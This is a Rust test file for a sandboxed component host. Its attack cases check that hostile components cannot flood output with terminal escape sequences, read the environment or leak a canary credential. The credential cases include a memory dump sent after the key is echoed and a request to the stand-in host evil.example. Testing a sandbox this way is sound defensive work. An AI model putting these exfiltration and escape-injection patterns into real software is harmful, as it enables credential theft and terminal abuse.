//! Components that flood their output, and components that look for the environment and the
//! credential.

use serde_json::json;
use zoetrope_host::contract::ErrorCause;

use super::Family;
use super::fixture::Fixture;
use crate::support::sandbox::CANARY_KEY;

pub(super) fn family() -> Family {
    let mut family = Family::new("output");
    family.attack("flood both standard streams with 100 MB", || {
        let fixture = Fixture::new();
        let flood =
            json!({"print": {"bytes": 100_000_000, "text": "\u{1b}]0;all is lost\u{7}\r\n"}});
        fixture.check(&json!({"do": [flood]})).expect("a plan");
        Fixture::is_unharmed();
    });
    family.attack("read the environment from wasi:cli", || {
        let seen = Fixture::new().seen(&json!(["look_around"]));
        let nothing = [
            "environment []",
            "arguments []",
            "folder None",
            "terminals [false, false, false]",
            "input at its end",
            "output [true, true]",
        ];
        assert_eq!(seen, nothing);
    });
    family.attack("read the clocks and random numbers", || {
        let seen = Fixture::new().seen(&json!(["ask_the_time"]));
        assert_eq!(seen, ["random (65536, 65536)"]);
    });
    credential(&mut family);
    family
}

/// Components that look for the credential.
fn credential(family: &mut Family) {
    family.attack("look for the credential in the connection", || {
        let seen = Fixture::new().seen(&json!(["connection"]));
        assert_eq!(seen, ["connection scripted: 0 headers, options {}"]);
    });
    family.attack(
        "send the whole memory after the provider has echoed the key",
        || {
            let echo = format!("x-echo: {CANARY_KEY}\r\nx-canary: {CANARY_KEY}\r\n");
            let fixture = Fixture::answering(&echo, &format!("you sent {CANARY_KEY}"));
            let actions = json!([
                "connection",
                {"request": {"method": "GET"}},
                {"request": {"body": "memory"}},
            ]);
            let seen = fixture.seen(&actions).join("\n");
            assert!(
                seen.contains("you sent ***") && !seen.contains(CANARY_KEY),
                "{seen}"
            );
            let arrived = fixture.provider.arrived().concat();
            let (_, dump) = arrived
                .split_once("POST /v1/jobs ")
                .expect("the request with the dump");
            let (head, dump) = dump.split_once("\r\n\r\n").expect("a body");
            assert!(head.contains(CANARY_KEY), "the host adds it");
            assert!(dump.len() > 1 << 20, "a whole memory");
            assert!(!dump.contains(CANARY_KEY), "the component never has it");
        },
    );
    family.attack("read the credential from an error of the host", || {
        let fixture = Fixture::new();
        let actions =
            json!([{"request": {"url": "http://evil.example/{base}", "body": {"text": "x"}}}]);
        let denied = fixture.poll(&json!({"do": actions, "then": {"error": {"cause": "denied"}}}));
        let Err(zoetrope_host::component::CallError::Node(error)) = denied else {
            panic!("{denied:?}")
        };
        let ErrorCause::Denied(why) = error.cause else {
            panic!("{error:?}")
        };
        assert!(!why.contains(CANARY_KEY), "{why}");
        fixture.nothing_arrived();
    });
}
